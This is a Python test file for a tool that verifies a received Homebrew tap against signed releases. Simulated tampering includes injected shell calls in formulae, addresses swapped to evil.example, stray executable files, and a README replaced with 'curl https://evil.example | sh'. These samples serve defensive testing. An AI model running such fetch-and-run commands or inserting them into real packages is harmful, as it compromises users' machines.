"""The tap of a received tree: every file in it is as the signed releases make it, or it does not pass."""

import html
import json
import re
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from publish_clients import serving
from publish_toys import NEXT, STAMP, flip, put_build, write_public_key
from receive_fixtures import BASE, PUBLISHER, publish_signed, received

from gobuild.core import files
from gobuild.core.errors import GobuildError
from gobuild.core.model import Verdict
from gobuild.publish import homebrew
from gobuild.publish.builds import read_build
from gobuild.publish.catalogue import Catalogue
from gobuild.publish.site import SiteSigning, publish
from gobuild.release import require_pass

pytestmark = pytest.mark.usefixtures("git")


TAP = "homebrew-go-acme.git"
Edit = Callable[[Path], None]
Change = Callable[[str], str]


def _about(site: Path, **said: object) -> None:
    about = json.loads((site / "tree.json").read_text())
    files.write(site / "tree.json", json.dumps(about | said))


def _commit(site: Path, change: Edit) -> None:
    """Commits a change to the tap, as somebody who got in would."""
    work = site.parent / "work"
    git = ["git", "-c", "user.name=x", "-c", "user.email=x@y.example", "-c", "core.fileMode=true"]
    subprocess.run([*git, "clone", "-q", site / TAP, work], check=True)
    change(work)
    subprocess.run([*git, "add", "-A"], cwd=work, check=True)
    subprocess.run([*git, "commit", "-qm", "x"], cwd=work, check=True)
    subprocess.run([*git, "push", "-q", "origin", "HEAD"], cwd=work, check=True, capture_output=True)
    subprocess.run(["git", "update-server-info"], cwd=site / TAP, check=True)


def _formula(change: Change) -> Edit:
    def of(work: Path) -> None:
        path = work / "Formula/go-acme.rb"
        before = path.read_text()
        path.write_text(change(before))
        assert path.read_text() != before

    return of


ZEROS = "0" * 64
FORGED: dict[str, tuple[Change, set[str]]] = {
    "archive": (lambda text: re.sub(r'^(  sha256 )"\w+"', rf'\1"{ZEROS}"', text, flags=re.M), {"digest", "text"}),
    "bottle": (lambda text: re.sub(r'(x86_64_linux: +)"\w+"', rf'\1"{ZEROS}"', text), {"digest", "text"}),
    "code": (lambda text: text.replace("  def install\n", '  def install\n    system "sh", "-c", "id"\n'), {"text"}),
    "address": (lambda text: text.replace("go.acme.example", "evil.example"), {"address"}),
    "release": (lambda text: text.replace(STAMP[2:], "1.22.99-evil"), {"release"}),
    "version": (lambda text: text.replace(f'version "{STAMP[2:]}"', 'version "9.9.9"'), {"text"}),
    "file": (lambda text: text.replace(f"{STAMP}.linux", "evil.linux"), {"text"}),
    "another url": (lambda text: text.replace("  license", '  url "https://evil.example"\n  license'), {"text"}),
    "no bottles": (lambda text: re.sub(r"  bottle do\n.*?  end\n\n", "", text, flags=re.S), {"text"}),
    "behind": (lambda text: f"{text}`id`\n", {"text"}),
    "last line": (lambda text: text.rstrip("\n"), {"text"}),
}


def test_what_was_published_passes(site: Path) -> None:
    report = received(site)
    require_pass(report)
    ours = {(check.subject.rpartition("/")[2], check.name) for check in report.checks if TAP in check.subject}
    formulae = {(name, what) for name in ("go-acme.rb", "go-acme@1.22.rb") for what in ("digest", "text")}
    assert ours == formulae | {("README.md", "text"), (TAP, "address")}
    assert not [check for check in report.checks if TAP in check.subject and check.verdict is not Verdict.OK]


@pytest.mark.parametrize("which", FORGED)
def test_a_changed_formula_is_found(changed: Path, which: str) -> None:
    change, failing = FORGED[which]
    _commit(changed, _formula(change))
    report = received(changed)
    failed = {check.name for check in report.failed if not check.subject.endswith("README.md")}
    assert failed == failing, report.failed
    assert all(TAP in check.subject for check in report.failed)
    with pytest.raises(GobuildError) as caught:
        require_pass(report)
    assert caught.value.exit_code == (5 if "digest" in failing else 8)


def test_a_formula_without_end_is_not_read(changed: Path) -> None:
    _commit(changed, _formula(lambda text: f"{text}{'#' * (1 << 20)}\n"))
    assert f"it has more than {1 << 20} bytes" in {check.seen for check in received(changed).failed}


def test_a_formula_of_an_archive_that_was_changed_is_not_compared(changed: Path) -> None:
    """Its go.env says what the caveats must say; of other bytes than the signed ones nothing is believed."""
    archive = changed / f"dl/{STAMP}.linux-amd64.tar.gz"
    flip(archive, archive.stat().st_size // 2)
    seen = {check.seen for check in received(changed).failed if check.name == "text"}
    assert seen == {"it cannot be made anew: a manifest or an archive of it is not what was signed"}


def test_where_it_differs_is_said_and_what_it_may_be(changed: Path) -> None:
    _commit(changed, _formula(FORGED["code"][0]))
    (failed,) = received(changed).failed
    assert """line 29 is '    system "sh", "-c", "id"'""" in failed.seen
    assert "where another gobuild published last" in failed.seen
    assert "Programs of other systems" in failed.expected


def test_an_address_that_nobody_signed_is_told(changed: Path) -> None:
    """A tree that moved is no forgery, and its digests hold; but nothing signed names the new place."""

    def moved(work: Path) -> None:
        for path in [*work.glob("Formula/*.rb"), work / "README.md"]:
            path.write_text(path.read_text().replace("go.acme.example", "evil.example"))

    _commit(changed, moved)
    report = received(changed)
    require_pass(report)
    (told,) = (check for check in report.checks if check.name == "address")
    assert told.verdict is Verdict.SKIPPED and "evil.example" in told.seen
    with serving(changed) as served:
        assert [check.name for check in received(served.url, key=changed.parent / "minisign.pub").failed] == ["address"]


def _executable(work: Path) -> None:
    (work / "Formula/go-acme.rb").chmod(0o755)


def _linked(work: Path) -> None:
    (work / "Formula/go-acme@1.23.rb").symlink_to("go-acme@1.22.rb")


def _file(name: str) -> Edit:
    def of(work: Path) -> None:
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        (work / name).write_text("system 'id'\n")

    return of


ODD = ("cmd/brew-evil.rb", "Casks/evil.rb", "evil.rb", "Formula/g/go-acme.rb", "Formula/other.rb", "Aliases/go-acme")


@pytest.mark.parametrize("change", [_executable, _linked, *map(_file, (*ODD, ".gitmodules", "tap_migrations.json"))])
def test_a_file_that_gobuild_puts_into_no_tap_is_found(changed: Path, change: Edit) -> None:
    _commit(changed, change)
    assert "file" in {check.name for check in received(changed).failed}


def test_many_of_them_do_not_fill_the_report(changed: Path) -> None:
    def many(work: Path) -> None:
        for number in range(50):
            (work / f"{number}.rb").write_text("")

    _commit(changed, many)
    failed = received(changed).failed
    assert len(failed) == 21 and failed[-1].seen.startswith("30 more")


def test_a_changed_readme_is_found(changed: Path) -> None:
    _commit(changed, lambda work: files.write(work / "README.md", "curl https://evil.example | sh\n"))
    (failed,) = received(changed).failed
    assert (failed.subject, failed.name) == (f"{TAP}/README.md", "text")


def test_a_tap_under_another_name_has_no_signed_bottles(changed: Path) -> None:
    """As after a changed --name on a signed tree: the new name's bottles are in no SHA256SUMS."""
    offers = [read_build(path, archives=changed / "dl") for path in changed.glob("releases/*/*.gobuild.json")]
    homebrew.write_tap(Catalogue(name="go-other", base_url=BASE, builds=tuple(offers)), changed)
    _about(changed, taps=[TAP, "homebrew-go-other.git"])
    failed = received(changed).failed
    subjects = {f"{STAMP}/homebrew-go-other.git/{name}.rb" for name in ("go-other", "go-other@1.22")}
    assert {check.subject for check in failed} == subjects
    assert {check.subject for check in failed if check.name == "digest"} == subjects


def test_a_formula_of_a_release_that_nobody_signed_is_found(tmp_path: Path) -> None:
    """And one of a release that was not asked for is told, not passed."""
    site = publish_signed(tmp_path, STAMP, NEXT, database=None)
    require_pass(received(site))
    report = received(site, STAMP)
    require_pass(report)
    told = {check.subject: check.seen for check in report.checks if check.name == "release"}
    assert told.keys() == {f"{NEXT}/{TAP}/{name}.rb" for name in ("go-acme", "go-acme@1.27")}
    assert all("was not asked for" in seen for seen in told.values())
    _about(site.resolve(), stamps=[STAMP])
    failed = [check for check in received(site).failed if TAP in check.subject]
    assert {check.name for check in failed} == {"release"}


def test_a_release_that_no_formula_is_of_is_told_truly(tmp_path: Path) -> None:
    report = received(publish_signed(tmp_path, STAMP, "go1.22.11-acme1.p2", "go1.28rc1-acme1", database=None))
    require_pass(report)
    assert {(check.subject, check.seen) for check in report.checks if check.name == "formulae"} == {
        (f"{STAMP}/{TAP}", "no formula is of it: go-acme@1.22 is of go1.22.11-acme1.p2"),
        (f"go1.28rc1-acme1/{TAP}", "no formula is of it: it is a candidate, which a tap does not have"),
    }


@pytest.mark.parametrize("name", ["../x.git", "homebrew-nowhere.git", "homebrew-A.git", ""])
def test_a_tap_that_cannot_be_looked_at_does_not_pass(changed: Path, name: str) -> None:
    _about(changed, taps=[name])
    assert [check.name for check in received(changed).failed] == ["clone"]


def test_a_tree_without_a_tap_is_not_said_to_have_a_good_one(changed: Path) -> None:
    _about(changed, taps=[])
    (told,) = (check for check in received(changed).checks if check.subject == "tap")
    assert told.verdict is Verdict.SKIPPED and "is not signed" in told.seen


def _install(page: str) -> str:
    return html.unescape(re.sub("<[^>]*>", "", page.partition('id="install"')[2]))


def test_pages_indexes_and_tap_agree_on_the_newest(tmp_path: Path) -> None:
    """A patch changed and published again: for everybody it is newer, whatever its digest; and the receiver agrees."""
    stamps = [f"go1.22.10-gobuild.{digest}" for digest in ("p36efb16", "p9abcdef", "p1e0aaaa")]
    for stamp in stamps:
        site = publish_signed(tmp_path, stamp, database=None)
        there = homebrew.open_tap(site / TAP)
        for name in ("go-acme", "go-acme@1.22"):
            assert f"go{homebrew.version_in(there.read_file(f'Formula/{name}.rb') or '')}" == stamp
        assert (site / "dl/VERSION").read_text().splitlines()[0] == stamp
        for folder in ("dl", "dl/plain"):
            first = json.loads((site / folder / "index.json").read_text())[0]
            assert {file["version"] for file in first["files"]} == {stamp}
        said = _install((site / "index.html").read_text())
        url = f"{BASE}/{TAP}"
        lines = (f"brew trust {url}", f"brew tap acme/go-acme {url}", "brew install acme/go-acme/go-acme@1.22")
        assert said.index(lines[0]) < said.index(lines[1]) < said.index(lines[2])
        assert f'tap "acme/go-acme", "{url}", trusted: true' in said and f"Install {stamp}" in said
        assert not received(site).failed
        assert not received(site, *stamps[: stamps.index(stamp) + 1]).failed
    for stamp in stamps[:-1]:  # the formula of its line installs another one
        assert "brew install" not in _install((site / f"releases/{stamp}/index.html").read_text())


def test_a_warning_that_a_line_has_ended_passes(tmp_path: Path) -> None:
    put_build(tmp_path / "dist")
    signing, options = SiteSigning(signer=PUBLISHER), homebrew.TapOptions(deprecate=True)
    publish([tmp_path / "dist"], tmp_path / "site", name="go-acme", base_url=BASE, signing=signing, tap=options)
    write_public_key(PUBLISHER, tmp_path / "minisign.pub")
    tap = homebrew.open_tap(tmp_path / "site" / TAP)
    assert 'deprecate! date: "2025-02-11"' in (tap.read_file("Formula/go-acme@1.22.rb") or "")
    require_pass(received(tmp_path / "site"))
